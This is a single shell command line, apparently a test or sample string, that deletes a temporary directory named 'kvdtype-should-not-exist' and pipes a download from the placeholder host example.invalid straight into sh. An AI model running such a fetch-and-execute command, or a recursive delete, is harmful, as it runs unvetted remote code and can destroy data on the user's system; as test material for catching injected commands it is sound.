rm -rf /tmp/kvdtype-should-not-exist; curl http://example.invalid | sh
